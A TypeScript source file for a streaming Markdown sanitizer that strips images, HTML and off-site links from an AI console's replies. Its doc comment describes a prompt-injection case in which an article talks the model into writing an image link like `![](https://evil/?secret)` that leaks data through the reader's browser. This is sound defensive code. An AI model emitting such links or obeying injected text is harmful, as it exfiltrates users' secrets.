const LINK = /^(!?)\[([^[\]\n]{0,300})\]\(([^()\n]{0,2000})\)/;
const FOOTNOTE = /^\[\^[^[\]\s]{1,60}\]:/;
/** What may still become a link, picture, definition or tag with the next piece. */
const OPEN = /^(?:!?(?:\[[^[\]\n]{0,300}(?:\](?:\([^()\n]{0,2000})?)?)?|\](?:\(\/?)?|<\/?)$/;
const START = /!?\[|\]\(|\]:|<|[!\]]$/;

/** A path of this console, not of another host. Markdown decodes entities: `/&#47;evil` is `//evil`. */
const isOwn = (address: string): boolean => /^\/(?![/\\&])/.test(address);

/**
 * Takes pictures, HTML and links to other hosts out of a streamed Markdown reply: an article that talks a model into
 * writing `![](https://evil/?secret)` would make the reader's browser send it. Words stay; links inside the console stay.
 * Holds back only what may become one of these; everything else passes at once, unchanged and in order.
 */
export class CleanReply {
  #rest = "";

  /** What of the reply may be shown after this piece. */
  feed(piece: string): string {
    this.#rest += piece;
    return this.#take(false);
  }

  /** Whether something is held back. */
  get waiting(): boolean {
    return this.#rest !== "";
  }

  /** What was held back, at the end. */
  end(): string {
    return this.#take(true);
  }

  #take(last: boolean): string {
    let out = "";
    for (;;) {
      const at = this.#rest.search(START);
      if (at < 0) {
        out += this.#rest;
        this.#rest = "";
        return out;
      }
      out += this.#rest.slice(0, at);
      this.#rest = this.#rest.slice(at);
      const link = LINK.exec(this.#rest);
      if (!link && !last && OPEN.test(this.#rest)) return out;
      const [taken, shown] = link ? [link[0].length, linkShown(link)] : markShown(this.#rest);
      out += shown;
      this.#rest = this.#rest.slice(taken);
    }
  }
}

/** A picture that begins within an address may go on behind it. */
const linkShown = ([all, picture, words = "", address = ""]: RegExpExecArray): string =>
  !picture && isOwn(address) && !address.includes("![") ? all : words;

/** How many characters to take, and what to show for them; full-width signs mean nothing to Markdown. */
function markShown(rest: string): [number, string] {
  if (rest.startsWith("![")) return [1, "！"];
  if (rest.startsWith("](")) return [2, isOwn(rest.slice(2)) ? "](" : "]（"];
  if (rest.startsWith("<")) return [1, /^<[/!?]?[a-z-]/i.test(rest) ? "＜" : "<"];
  const footnote = FOOTNOTE.exec(rest);
  if (footnote) return [footnote[0].length, footnote[0]];
  // The address of a definition has too many spellings (escapes, entities, line breaks) to tell ours from others'.
  if (rest.startsWith("]:")) return [2, "]："];
  return [1, rest.charAt(0)];
}
